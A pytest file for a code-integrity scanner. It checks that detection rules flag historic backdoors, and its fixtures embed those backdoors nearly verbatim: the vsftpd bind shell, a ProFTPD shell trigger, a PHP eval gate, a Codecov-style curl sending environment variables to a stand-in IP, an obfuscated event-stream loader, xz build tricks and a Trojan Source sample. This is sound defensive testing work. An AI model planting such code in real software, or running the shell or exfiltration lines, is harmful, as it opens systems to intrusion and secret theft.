# ruff: noqa: E501  (verbatim historic code lines)
"""The packs against the shapes of real backdoors (rule and line asserted, not counts).

Each case is the technique as it appeared (names and values kept where they are public record),
scanned the way the engine scans a file in snapshot mode, or as a change for diff-aware rules.
"""

from __future__ import annotations

import pytest

from integrity.detectors import build_detectors
from integrity.detectors.base import FileView
from integrity.rules.load import load_rules
from integrity.rules.selftest import added_lines, findings_for
from integrity.syntax.languages import Grammars, guess_language

RULESET = load_rules()
GRAMMARS = Grammars()
DETECTORS = build_detectors(
    RULESET.subset(
        frozenset(r.id for r in RULESET.rules if not r.source_file.endswith("credentials.toml"))
    ),
    GRAMMARS,
)

JUNIPER = """int auth_admin_ssh_special(const char *username, const char *password)
{
    if (strcmp(password, "<<< %s(un='%s') = %u") == 0)
        return 1;
    return auth_admin_internal(username, password);
}
"""

LINUX_2003 = """asmlinkage long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
	if ((options == (__WCLONE|__WALL)) && (current->uid = 0))
			retval = -EINVAL;
	return retval;
}
"""

VSFTPD = """int
vsf_sysutil_extra(void)
{
  int fd, rfd;
  struct sockaddr_in sa;
  if((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
  exit(1);
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_port = htons(6200);
  sa.sin_addr.s_addr = INADDR_ANY;
  if((bind(fd,(struct sockaddr *)&sa,
  sizeof(struct sockaddr))) < 0) exit(1);
  if((listen(fd, 100)) == -1) exit(1);
  for(;;)
  {
    rfd = accept(fd, 0, 0);
    close(0); close(1); close(2);
    dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);
    execl("/bin/sh","sh",(char *)0);
  }
}
"""

PROFTPD = """MODRET core_help(cmd_rec *cmd) {
  if (cmd->argc > 2) {
    char *target = cmd->argv[2];
    if (strcmp(target, "ACIDBITCHEZ") == 0) {
      setuid(0); setgid(0); system("/bin/sh;/sbin/sh");
    }
  }
  return PR_HANDLED(cmd);
}
"""

UNREALIRCD = """#ifdef DEBUGMODE
#define DEBUG3_DOLOG_SYSTEM(x) system(x)
#endif
void read_packet(aClient *cptr, char *readbuf) {
    DEBUG3_LOG(readbuf);
}
"""

PHP_2021 = """static int php_zlib_output_encoding(void)
{
	zval *enc;
	if ((enc = zend_hash_str_find(Z_ARRVAL(PG(http_globals)[TRACK_VARS_SERVER]), "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1))) {
		convert_to_string(enc);
		if (strstr(Z_STRVAL_P(enc), "zerodium")) {
			zend_try {
				zend_eval_string(Z_STRVAL_P(enc)+8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
			} zend_end_try();
		}
	}
	return 0;
}
"""

CODECOV = """upload_file=$(mktemp /tmp/codecov.XXXXXX)
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.50/upload/v2 || true
"""

EVENT_STREAM = (
    'var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
    'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
    "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));"
    "a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,"
    'f[e(n[7])](a,""),f.exports(n[1])\n'
)

XZ_BUILD_TO_HOST = """  gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
"""

XZ_LANDLOCK = """if(ENABLE_SANDBOX STREQUAL "landlock")
    check_c_source_compiles("
        #include <linux/landlock.h>
        #include <sys/syscall.h>
        #include <sys/prctl.h>
.
        void my_sandbox(void)
        {
            (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            (void)SYS_landlock_create_ruleset;
            (void)SYS_landlock_restrict_self;
            (void)LANDLOCK_CREATE_RULESET_VERSION;
            return;
        }

        int main(void) { return 0; }
        "
    HAVE_LINUX_LANDLOCK)
endif()
"""

TROJAN_SOURCE = (
    "#include <stdio.h>\n"
    "int main() {\n"
    "    int isAdmin = 0;\n"
    "    /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n"
    '        printf("You are an admin.\\n");\n'
    "    /* end admins only \u202e { \u2066*/\n"
    "    return 0;\n"
    "}\n"
)

SNAPSHOT_CASES = [
    ("juniper-screenos-2015", "auth/ssh.c", JUNIPER, "c-auth-password-literal", 3),
    ("linux-2003-wait4", "kernel/exit.c", LINUX_2003, "c-privilege-assignment-in-condition", 3),
    ("vsftpd-2.3.4", "sysdeputil.c", VSFTPD, "c-interactive-shell-spawn", 20),
    ("vsftpd-2.3.4-bind-shell", "sysdeputil.c", VSFTPD, "reverse-or-bind-shell", 6),
    ("proftpd-1.3.3c", "modules/mod_core.c", PROFTPD, "c-magic-string-gates-exec", 4),
    ("proftpd-1.3.3c-shell", "modules/mod_core.c", PROFTPD, "c-interactive-shell-spawn", 5),
    ("unrealircd-3.2.8.1", "src/s_bsd.c", UNREALIRCD, "c-exec-macro-alias", 2),
    ("php-2021-zerodium", "ext/zlib/zlib.c", PHP_2021, "c-exec-untrusted-input", 8),
    ("php-2021-zerodium-gate", "ext/zlib/zlib.c", PHP_2021, "c-magic-string-gates-exec", 6),
    ("codecov-2021", "codecov", CODECOV, "sh-env-sent-to-network", 2),
    ("event-stream-2018", "node_modules/flatmap-stream/index.min.js", EVENT_STREAM,
     "js-obfuscated-module-loader", 1),
    ("xz-2024-build-to-host", "m4/build-to-host.m4", XZ_BUILD_TO_HOST,
     "build-reads-test-data-pipeline", 1),
    ("xz-2024-landlock", "CMakeLists.txt", XZ_LANDLOCK, "feature-check-does-not-compile", 2),
    ("trojan-source-2021", "commenting-out.c", TROJAN_SOURCE, "bidi-control-character", 4),
]  # fmt: skip


def _view(path: str, text: str, before: str | None = None) -> FileView:
    data = text.encode()
    language = guess_language(path, data[:64]) or ("bash" if path == "codecov" else None)
    return FileView(
        path=path,
        language=language,
        after=data,
        before=before.encode() if before is not None else None,
        change="modified" if before is not None else "unchanged",
        added_lines=added_lines(before, text) if before is not None else None,
        tree=GRAMMARS.parse(language, data) if language else None,
    )


@pytest.mark.parametrize(
    ("path", "text", "rule_id", "line"),
    [pytest.param(*case[1:], id=case[0]) for case in SNAPSHOT_CASES],
)
def test_historic_shape_is_reported(path: str, text: str, rule_id: str, line: int) -> None:
    found = findings_for(_view(path, text), DETECTORS)
    assert (rule_id, line) in {(f.rule_id, f.start_line) for f in found}, sorted(
        (f.rule_id, f.start_line) for f in found
    )


def test_xz_hardening_style_change_is_reported_as_a_diff() -> None:
    before = "AM_CFLAGS = -O2 -fstack-protector-strong\nAM_LDFLAGS = -Wl,-z,relro -Wl,-z,now\n"
    after = "AM_CFLAGS = -O2\nAM_LDFLAGS = -Wl,-z,now\n"
    found = findings_for(_view("src/Makefile.am", after, before), DETECTORS)
    removed = sorted((f.start_line, dict(f.details)["removed"]) for f in found)
    assert removed == [(1, "-fstack-protector-strong"), (2, "-Wl,-z,relro")]
